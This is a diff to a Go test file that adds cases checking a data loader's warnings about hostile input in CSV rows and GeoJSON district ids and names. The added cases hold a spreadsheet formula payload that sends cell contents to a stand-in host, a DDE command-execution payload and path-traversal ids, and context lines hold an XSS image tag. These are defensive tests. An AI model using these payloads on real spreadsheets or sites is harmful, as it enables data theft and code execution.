@@ -89,6 +89,10 @@ func TestHostileControl(t *testing.T) {
 			[]string{`small/control.csv:3: warning: the rows span ` + strconv.Itoa(days("1916-11-15", "2016-11-15")) + ` days, from 1916-11-15 (line 2) to 2016-11-15: check the years`}},
 		{"markup in note", row("2016-11-15", "1", "<img src=x onerror=alert(1)>"), false,
 			[]string{`small/control.csv:2: warning: the note has markup ("<i")`}},
+		{"formula in note", row("2016-11-15", "1", `"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`), false,
+			[]string{`small/control.csv:2: warning: the note begins with "=", which a spreadsheet would run as a formula: frontline's CSV downloads write it after a single quote`}},
+		{"formula in source", header + "2016-11-15,north-west,government,1,+cmd|' /C calc'!A0,\n" + allOthers, false,
+			[]string{`small/control.csv:2: warning: the source begins with "+", which a spreadsheet would run as a formula`}},
 		{"NUL in note", row("2016-11-15", "1", "a\x00b"), false,
 			[]string{`small/control.csv:2: warning: the note has a NUL byte at byte 1`}},
 		{"district without rows", header + "2016-11-15,north-west,government,1,[1],\n", false,
@@ -156,6 +160,10 @@ func TestHostileDistricts(t *testing.T) {
 			[]string{`feature #0 ("a\x00b"): error: the district id has a NUL byte at byte 1`}, nil},
 		{"control character in id", collection(feature(`"a\u001bb"`, `{}`, ring)), true,
 			[]string{`error: the district id has the control character U+001B at byte 1`}, nil},
+		{"id ..", collection(feature(`".."`, `{}`, ring)), true,
+			[]string{`feature #0 (".."): error: the district id ".." is a path step that no URL can name (/api/districts/.. resolves to another path)`}, nil},
+		{"id .", collection(feature(`"."`, `{}`, ring)), true,
+			[]string{`feature #0 ("."): error: the district id "." is a path step that no URL can name`}, nil},
 		{"quote in id", collection(feature(`"a\"b"`, `{}`, ring)), true,
 			[]string{`error: the district id has markup characters`}, nil},
 	}
@@ -176,13 +184,14 @@ func TestHostileNames(t *testing.T) {
 		feature(`"north-east"`, `{"name":"a\u0000b"}`, `[[37.2,36.2],[37.21,36.2],[37.21,36.21],[37.2,36.21],[37.2,36.2]]`),
 		feature(`"south-west"`, `{"name":"Bustan al-Qasr &amp; Kallaseh"}`, `[[37.3,36.2],[37.31,36.2],[37.31,36.21],[37.3,36.21],[37.3,36.2]]`),
 		feature(`"south-east"`, `{"name":"Salah ad-Din < Hamdaniyah & Sukkari"}`, `[[37.4,36.2],[37.41,36.2],[37.41,36.21],[37.4,36.21],[37.4,36.2]]`),
-		feature(`"islands"`, `{"name":"Islands"}`, `[[37.5,36.2],[37.51,36.2],[37.51,36.21],[37.5,36.21],[37.5,36.2]]`))
+		feature(`"islands"`, `{"name":"@Islands"}`, `[[37.5,36.2],[37.51,36.2],[37.51,36.21],[37.5,36.21],[37.5,36.2]]`))
 	ps := loadProblems(t, smallFS(t, map[string]string{geo.DistrictsFile: fc}), false)
 	containsAll(t, ps,
 		`feature #0 ("north-west"): warning: the name "<img src=x onerror=alert(1)>" has markup ("<i")`,
 		`feature #1 ("north-east"): warning: the name "a\x00b" has a NUL byte at byte 1`,
-		`feature #2 ("south-west"): warning: the name "Bustan al-Qasr &amp; Kallaseh" has markup ("&amp;")`)
-	assert.Len(t, ps, 3, "a lone < or & in a name is text, not markup: %q", ps)
+		`feature #2 ("south-west"): warning: the name "Bustan al-Qasr &amp; Kallaseh" has markup ("&amp;")`,
+		`feature #4 ("islands"): warning: the name "@Islands" begins with "@", which a spreadsheet would run as a formula`)
+	assert.Len(t, ps, 4, "a lone < or & in a name is text, not markup: %q", ps)
 }
 
 func TestGeoJSONByteOrderMark(t *testing.T) {
